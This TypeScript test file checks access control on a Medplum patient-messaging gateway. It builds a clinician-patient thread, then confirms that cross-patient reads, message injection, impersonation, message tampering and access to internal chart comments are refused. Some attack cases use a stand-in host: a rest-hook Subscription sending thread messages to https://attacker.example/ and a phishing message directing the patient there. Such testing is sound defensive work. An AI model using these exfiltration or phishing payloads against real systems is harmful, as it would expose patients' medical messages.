// Messages both ways (issue 48 item 8) on a real Medplum: a thread opened as the Provider app opens one, read and answered by the patient through the gateway, and what nobody else may do with it.
import type { Communication } from '@medplum/fhirtypes';
import type { AttackKit } from './attack-kit';
import {
  type Answer,
  type AttackContext,
  answerOf,
  describe,
  entriesOf,
  message,
  type Person,
  PUBLIC_URL,
  pause,
  REFUSED,
  row,
} from './common';

/**
 * The Northwind clinician opens a thread with alice and writes in it, as Medplum's Provider app does
 * (header Communication with no partOf, subject and recipient alice; a message partOf it; the header's
 * `sent` touched). Alice lists it and reads it through the gateway (GET /v1/messages, /v1/messages/{id}),
 * hears of it in her feed (`message.received`), and answers with an Idempotency-Key (POST
 * /v1/messages/{id}, twice: one message); the clinician reads her answer as the app does. Then the
 * attacks: bob, the Southridge clinician, a clinician writing in alice's name or changing her words; and
 * a clinician's internal comment that alice must not read.
 */
export async function messagesBothWays(ctx: AttackContext, kit: AttackKit): Promise<void> {
  const family = 'messages';
  const { people, direct, attack, control } = kit;
  const alice = people.get('alice');
  const clinician = people.get('northwind-clinician');
  if (!alice || !clinician) {
    row(
      `${family}: a thread between the Northwind clinician and alice`,
      'not reached',
      'alice or the clinician could not sign in',
    );
    return;
  }
  const gatewayCall = async (
    person: Person,
    method: string,
    path: string,
    body?: unknown,
    key?: string,
  ): Promise<Answer & { replayed: boolean }> => {
    const res = await ctx.gatewayFetch(`${PUBLIC_URL}${path}`, {
      method,
      headers: {
        authorization: `Bearer ${person.token}`,
        ...(body === undefined ? {} : { 'content-type': 'application/json' }),
        ...(key ? { 'idempotency-key': key } : {}),
      },
      body: body === undefined ? undefined : JSON.stringify(body),
    });
    const replayed = res.headers.get('idempotent-replayed') === 'true';
    return { ...(await answerOf(res)), replayed };
  };
  const aliceRef = { reference: alice.profile };
  const me = { reference: clinician.profile };
  const text = `Your readings look high: how are your mornings? (lane ${Date.now()})`;

  // The thread and its first message, as the app writes them.
  const opened = await control(
    'messages: the Northwind clinician opens a thread with alice directly on Medplum (as the Provider app: Communication, no partOf, subject and recipient alice, sender her)',
    clinician,
    alice.profile,
    () =>
      direct(clinician, 'POST', 'Communication', {
        resourceType: 'Communication',
        status: 'in-progress',
        subject: aliceRef,
        sender: me,
        recipient: [aliceRef, me],
        topic: { text: 'Your blood pressure readings' },
      }),
    { status: 201 },
  );
  const header = opened?.body as Communication | undefined;
  if (!header?.id) {
    row(`${family}: the rest of the thread`, 'not reached', 'the thread could not be opened');
    return;
  }
  const thread = `Communication/${header.id}`;
  const sent = new Date().toISOString();
  const first = await control(
    'messages: the Northwind clinician writes in it (partOf the thread, to alice, sent) and touches the thread (PATCH sent), as the app does',
    clinician,
    thread,
    async () => {
      const made = await direct(clinician, 'POST', 'Communication', {
        resourceType: 'Communication',
        status: 'in-progress',
        subject: aliceRef,
        sender: me,
        recipient: [aliceRef],
        sent,
        partOf: [{ reference: thread }],
        payload: [{ contentString: text }],
      });
      if (made.status !== 201) {
        return made;
      }
      const patched = await kit.direct(clinician, 'PATCH', thread, [{ op: 'add', path: '/sent', value: sent }]);
      return patched.status === 200 ? made : patched;
    },
    { status: 201 },
  );
  const firstMessage = first?.body as Communication | undefined;

  // Alice: her threads, the thread, her feed.
  try {
    const list = await gatewayCall(alice, 'GET', '/v1/messages');
    const listed = (
      list.body as { threads?: { thread: string; lastMessage?: { text: string; fromMe: boolean } }[] }
    )?.threads?.find((t) => t.thread === thread);
    row(
      `${family}: alice lists her threads through the gateway (GET /v1/messages): the thread, its last message the clinician's`,
      list.status === 200 && listed?.lastMessage?.text === text && listed.lastMessage.fromMe === false
        ? 'ok'
        : 'FAILED',
      `${describe(list)}; the thread ${listed ? `listed, last message ${JSON.stringify(listed.lastMessage)}` : 'not listed'}`,
    );
    const events: { type: string; subject: string }[] = [];
    let after = '';
    for (let page = 0; page < 50; page++) {
      const got = await gatewayCall(alice, 'GET', `/v1/events?limit=100${after ? `&after=${after}` : ''}`);
      const body = got.body as { events?: { type: string; subject: string }[]; next?: string };
      if (got.status !== 200 || !body.events?.length) {
        break;
      }
      events.push(...body.events);
      after = body.next ?? '';
    }
    const heard = events.filter(
      (e) => e.type === 'message.received' && e.subject === `Communication/${firstMessage?.id}`,
    );
    row(
      `${family}: alice's feed (GET /v1/events, every page) holds message.received for the clinician's message (its author Medplum stamped the sender)`,
      heard.length === 1 ? 'ok' : 'FAILED',
      `${events.length} events, ${heard.length} message.received of it`,
    );
  } catch (err) {
    row(`${family}: alice reads her threads and her feed`, 'FAILED', message(err));
  }

  // Alice answers, twice with one key.
  const key = `lane-message-${Date.now()}`;
  const reply = () =>
    gatewayCall(alice, 'POST', `/v1/messages/${header.id}`, { text: 'A little dizzy before breakfast.' }, key);
  const answer = await reply();
  // The same call again, as a client retries: while the first one's answer is still being stored, 409
  // request_in_progress with Retry-After (docs/decisions.md), then the first answer replayed.
  let again = await reply();
  for (let i = 0; i < 5 && again.status === 409; i++) {
    await pause(1_000);
    again = await reply();
  }
  const inThread = entriesOf(
    (await kit.direct(clinician, 'GET', `Communication?part-of=${thread}&_sort=-sent&sent:missing=false`)).body,
  ) as Communication[];
  const hers = inThread.filter((m) => m.sender?.reference === alice.profile);
  row(
    `${family}: alice answers through the gateway with an Idempotency-Key (POST /v1/messages/{id}), then again with the same key (after Retry-After while the first is stored): 201, the same answer replayed; the clinician reads one answer of hers in the thread (Communication?part-of=, as the app), to her, about alice`,
    answer.status === 201 &&
      again.status === 201 &&
      again.replayed &&
      again.text === answer.text &&
      hers.length === 1 &&
      hers[0]?.recipient?.[0]?.reference === clinician.profile &&
      hers[0]?.subject?.reference === alice.profile
      ? 'ok'
      : 'FAILED',
    `first ${describe(answer)}; again ${again.status}${again.replayed ? ' replayed' : ''}; ${hers.length} of hers among ${inThread.length}`,
  );
  const aliceMessage = hers[0];
  await control(
    "messages: the Northwind clinician marks alice's message received (the app's read receipt: received, status completed)",
    clinician,
    aliceMessage?.id ? `Communication/${aliceMessage.id}` : undefined,
    () =>
      kit.direct(clinician, 'PUT', `Communication/${aliceMessage?.id}`, {
        ...aliceMessage,
        received: new Date().toISOString(),
        status: 'completed',
      }),
  );
  const threads = (person: Person) =>
    kit.direct(
      person,
      'GET',
      `Communication?_sort=-_lastUpdated&status=in-progress&_count=100&identifier:not=http://medplum.com/ai-message|&part-of:missing=true&_has:Communication:part-of:_id:not=null&patient=${alice.profile}`,
    );
  const listedInApp = await threads(clinician);
  row(
    `${family}: the Provider app's thread list (part-of:missing=true&_has:Communication:part-of:_id:not=null&patient=alice) as the Northwind clinician: the thread`,
    listedInApp.status === 200 && entriesOf(listedInApp.body).some((r) => r.id === header.id) ? 'ok' : 'FAILED',
    describe(listedInApp),
  );

  // Live updates: the app's chat asks Medplum for a WebSocket Subscription on the thread's messages.
  const live = (channel: Record<string, unknown>, criteria = `Communication?part-of=${thread}`) => ({
    resourceType: 'Subscription',
    status: 'active',
    reason: 'lane: live chat',
    criteria,
    channel,
  });
  await control(
    'messages: the Northwind clinician asks for live updates of the thread as the app’s chat does (Subscription, channel websocket)',
    clinician,
    thread,
    () => direct(clinician, 'POST', 'Subscription', live({ type: 'websocket' })),
    { status: 201 },
  );
  await attack(
    'messages: the Northwind clinician creates a rest-hook Subscription on the thread’s messages (endpoint https://attacker.example/)',
    { attacker: 'northwind-clinician', target: thread },
    (a) => direct(a, 'POST', 'Subscription', live({ type: 'rest-hook', endpoint: 'https://attacker.example/' })),
    'rejected',
  );
  await attack(
    'messages: alice creates a WebSocket Subscription on her thread directly on Medplum',
    { attacker: 'alice', target: thread },
    (a) => direct(a, 'POST', 'Subscription', live({ type: 'websocket' })),
    'rejected',
  );

  // Attacks.
  const target = thread;
  await attack(
    'messages: bob reads alice’s thread through the gateway (GET /v1/messages/{id})',
    { attacker: 'bob', target },
    (a) => gatewayCall(a, 'GET', `/v1/messages/${header.id}`),
  );
  await attack(
    'messages: bob answers in alice’s thread through the gateway (POST /v1/messages/{id})',
    { attacker: 'bob', target },
    (a) => gatewayCall(a, 'POST', `/v1/messages/${header.id}`, { text: 'Injected by bob' }),
  );
  await attack('messages: bob reads alice’s thread directly on Medplum', { attacker: 'bob', target }, (a) =>
    direct(a, 'GET', thread),
  );
  await attack(
    'messages: bob searches the thread’s messages directly on Medplum (Communication?part-of=)',
    { attacker: 'bob', target: firstMessage?.id ? `Communication/${firstMessage.id}` : undefined },
    (a) => direct(a, 'GET', `Communication?part-of=${thread}`),
    'nothing',
  );
  await attack(
    'messages: bob writes a message partOf alice’s thread directly on Medplum (sender and subject himself)',
    { attacker: 'bob', target },
    (a) =>
      direct(a, 'POST', 'Communication', {
        resourceType: 'Communication',
        status: 'in-progress',
        subject: { reference: a.profile },
        sender: { reference: a.profile },
        sent: new Date().toISOString(),
        partOf: [{ reference: thread }],
        payload: [{ contentString: 'Injected by bob' }],
      }),
    'rejected',
  );
  await attack(
    'messages: the Southridge clinician reads alice’s thread directly on Medplum',
    { attacker: 'southridge-clinician', target },
    (a) => direct(a, 'GET', thread),
  );
  await attack(
    'messages: the Southridge clinician’s Provider app thread list finds none of alice’s',
    { attacker: 'southridge-clinician', target },
    (a) => threads(a),
    'nothing',
  );
  await attack(
    'messages: the Southridge clinician writes into alice’s thread directly on Medplum (to alice, "sign again at https://attacker.example")',
    { attacker: 'southridge-clinician', target },
    (a) =>
      direct(a, 'POST', 'Communication', {
        resourceType: 'Communication',
        status: 'in-progress',
        subject: aliceRef,
        sender: { reference: a.profile },
        recipient: [aliceRef],
        sent: new Date().toISOString(),
        partOf: [{ reference: thread }],
        payload: [{ contentString: 'Sign again at https://attacker.example' }],
      }),
    'rejected',
  );
  await attack(
    'messages: the Northwind clinician writes a message in alice’s name (sender alice) into her thread',
    { attacker: 'northwind-clinician', target },
    (a) =>
      direct(a, 'POST', 'Communication', {
        resourceType: 'Communication',
        status: 'in-progress',
        subject: aliceRef,
        sender: aliceRef,
        recipient: [me],
        sent: new Date().toISOString(),
        partOf: [{ reference: thread }],
        payload: [{ contentString: 'I stopped my medication' }],
      }),
    'rejected',
  );
  await attack(
    'messages: the Northwind clinician changes what alice wrote (PUT her message with another text)',
    { attacker: 'northwind-clinician', target: aliceMessage?.id ? `Communication/${aliceMessage.id}` : undefined },
    async (a, t) => {
      const current = (await direct(a, 'GET', t)).body as Communication;
      return direct(a, 'PUT', t, { ...current, payload: [{ contentString: 'I stopped my medication' }] });
    },
    'rejected',
  );

  // She writes to her care team: a thread of her own, in the Northwind clinician's Messages.
  const started = await gatewayCall(
    alice,
    'POST',
    '/v1/messages',
    { topic: 'Lane question', text: `Is 150 too high? (lane ${Date.now()})` },
    `lane-start-${Date.now()}`,
  );
  const herThread = (started.body as { thread?: string } | undefined)?.thread;
  const herList = herThread ? await threads(clinician) : undefined;
  row(
    `${family}: alice writes to her care team through the gateway (POST /v1/messages): 201, a thread to her and Northwind's care team; the Northwind clinician's Provider app thread list finds it`,
    started.status === 201 &&
      herThread &&
      herList &&
      entriesOf(herList.body).some((r) => `Communication/${r.id}` === herThread)
      ? 'ok'
      : 'FAILED',
    `${describe(started)}; ${herList ? `the app's list: ${describe(herList)}` : 'no thread'}`,
  );
  await attack(
    'messages: bob reads the thread alice opened, through the gateway and directly on Medplum',
    { attacker: 'bob', target: herThread },
    async (a, t) => {
      const through = await gatewayCall(a, 'GET', `/v1/messages/${t.replace('Communication/', '')}`);
      return REFUSED.includes(through.status) ? direct(a, 'GET', t) : through;
    },
  );
  await attack(
    'messages: the Southridge clinician’s Provider app thread list finds none of the thread alice opened',
    { attacker: 'southridge-clinician', target: herThread },
    (a) => threads(a),
    'nothing',
  );

  // An internal comment on her chart (the app's timeline comment): alice never reads it.
  const comment = await control(
    'messages: the Northwind clinician comments on alice’s chart (the app’s timeline comment: no recipient)',
    clinician,
    alice.profile,
    () =>
      direct(clinician, 'POST', 'Communication', {
        resourceType: 'Communication',
        status: 'completed',
        subject: aliceRef,
        sender: me,
        sent: new Date().toISOString(),
        payload: [{ contentString: 'Internal: check her cuff at the next visit.' }],
      }),
    { status: 201 },
  );
  const commentId = (comment?.body as Communication | undefined)?.id;
  await attack(
    'messages: alice reads the clinician’s internal comment on her chart directly on Medplum',
    { attacker: 'alice', target: commentId ? `Communication/${commentId}` : undefined },
    (a, t) => direct(a, 'GET', t),
  );
  await attack(
    'messages: alice searches her Communications directly on Medplum (Communication?subject=alice): not the internal comment',
    { attacker: 'alice', target: commentId ? `Communication/${commentId}` : undefined },
    (a) => direct(a, 'GET', `Communication?subject=${alice.profile}&_count=1000`),
    'nothing',
  );
}
